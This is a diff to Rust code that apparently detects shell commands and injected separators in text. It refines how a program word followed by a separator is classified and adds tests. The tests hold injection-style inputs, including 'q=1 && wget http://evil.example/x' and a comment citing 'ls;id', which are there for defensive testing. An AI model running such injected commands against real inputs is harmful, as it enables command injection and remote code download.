@@ -183,7 +183,7 @@ fn follows_a_command(text: &[u8], at: usize) -> bool {
             && let Some(word) = Word::read(text, word_start)
             && word.end < at
             && word.program().and_then(command).is_some()
-            && Arguments::after(text, word.end) == Arguments::Shell
+            && ends_a_written_command(text, word.end, at)
         {
             return true;
         }
@@ -222,6 +222,17 @@ fn is_lone_value(line: &[u8]) -> bool {
         && !line.starts_with(b"```")
         && !line.iter().any(u8::is_ascii_whitespace)
         && !matches!(line.last(), Some(b':' | b'?' | b'!' | b'.' | b','))
+}
+
+/// Whether the program word ending at `word_end` is written out as a command up to the separator at `at`:
+/// shell-shaped arguments follow it, or nothing but a blank (`history | grep rm`): a value glued to its
+/// separator (`ls;id`) is how an injection ends the value it was given.
+fn ends_a_written_command(text: &[u8], word_end: usize, at: usize) -> bool {
+    match Arguments::after(text, word_end) {
+        Arguments::Shell => true,
+        Arguments::None => text[word_end..at].iter().any(u8::is_ascii_whitespace),
+        _ => false,
+    }
 }
 
 /// Whether a line can start with a command: its first word begins like a program of the vocabulary, or
@@ -735,6 +746,9 @@ mod tests {
         assert_eq!(shape("q=1 && wget http://evil.example/x"), Some(Shape::Separated));
         // A pipeline written out in a question: at most a finding, never a refusal on its own.
         assert_eq!(shape("to list them: ls -la /srv | grep -c log"), Some(Shape::ProseCommand));
+        // A program alone, then a blank and the separator: a pipeline written out; glued, a value ended.
+        assert_eq!(shape("I ran `history | grep -n rm` to see it"), Some(Shape::ProseCommand));
+        assert_eq!(shape("history|grep -n rm"), Some(Shape::Separated));
         for quoted in ["try du -sh ./cache && echo done", "chain grep -r foo . | sort", "so ls -la | wc -l"] {
             assert!(matches!(shape(quoted), None | Some(Shape::ProseCommand)), "{quoted}");
         }
